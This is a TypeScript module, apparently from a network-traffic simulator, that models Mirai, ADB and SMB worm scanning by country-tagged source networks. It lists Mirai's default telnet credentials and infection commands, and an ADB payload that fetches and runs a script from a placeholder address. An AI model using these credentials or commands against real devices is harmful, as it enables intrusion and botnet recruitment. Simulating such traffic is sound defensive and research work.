import type { Behaviour } from '../behaviour.ts'
import { syn } from '../speak/syn.ts'
import { telnetLogin } from '../speak/telnet.ts'
import { latin1 } from '../speak/text.ts'
import { knock, several } from './tcp.ts'

const homes = [
  'broadband-cn',
  'broadband-in',
  'broadband-br',
  'broadband-vn',
  'broadband-id',
  'broadband-ir',
  'broadband-kr',
  'broadband-latam',
  'broadband-africa',
  'mobile-asia',
] as const
const logins = [
  ['root', 'xc3511'],
  ['root', 'vizxv'],
  ['admin', 'admin'],
  ['root', 'root'],
  ['support', 'support'],
  ['root', '888888'],
  ['default', 'OxhlwSG8'],
] as const
const infection = [
  'enable',
  'system',
  'shell',
  'sh',
  '/bin/busybox MIRAI',
  'cat /proc/mounts; /bin/busybox wget; /bin/busybox tftp',
]

/** Mirai and its heirs: the sequence number is the destination address; where a login opens, the dictionary. */
export const mirai: Behaviour = {
  name: 'mirai',
  networks: homes,
  addresses: 1500,
  ipv6: 0,
  activeDays: [1, 12],
  day: (actor, midnight, random) =>
    several(random, 2, 7, () => {
      const port = random.chance(0.85) ? 23 : 2323
      if (random.chance(0.7)) return knock(actor, midnight, random, { port, syn: syn.mirai, outcome: 'none' })
      const [user, password] = random.pick(logins)
      return knock(actor, midnight, random, {
        port,
        syn: syn.linux,
        turns: () => telnetLogin(user, password, infection),
      })
    }),
}

/** Worms that spread through the Android debug bridge: CNXN, then a shell command (protocol.txt of adb). */
export const adb: Behaviour = {
  name: 'adb',
  networks: ['broadband-kr', 'broadband-cn', 'mobile-asia', 'broadband-vn'],
  addresses: 220,
  ipv6: 0,
  activeDays: [1, 6],
  day: (actor, midnight, random) =>
    several(random, 1, 4, () =>
      knock(actor, midnight, random, {
        port: 5555,
        syn: syn.linux,
        turns: () => [
          {
            from: 'source',
            bytes: latin1(
              'CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00',
            ),
          },
          {
            from: 'source',
            bytes: latin1(
              'OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x50\x00\x00\x00\x12\x12\x00\x00\xb0\xaf\xba\xb1shell:cd /data/local/tmp; busybox wget http://198.18.0.9/adb.sh; sh adb.sh\x00',
            ),
          },
        ],
      }),
    ),
}

/** SMB worms: negotiate on 445 (MS-CIFS 2.2.4.52). */
export const smb: Behaviour = {
  name: 'smb',
  networks: [
    'broadband-in',
    'broadband-ru',
    'broadband-id',
    'broadband-vn',
    'business-office',
    'broadband-africa',
  ],
  addresses: 520,
  ipv6: 0,
  activeDays: [1, 8],
  day: (actor, midnight, random) =>
    several(random, 1, 5, () =>
      knock(actor, midnight, random, {
        port: 445,
        syn: syn.windows,
        turns: () => [
          {
            from: 'source',
            bytes: latin1(
              '\x00\x00\x00\x2f\xffSMB\x72\x00\x00\x00\x00\x18\x01\x28\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00\x00\x0c\x00\x02NT LM 0.12\x00',
            ),
          },
        ],
      }),
    ),
}
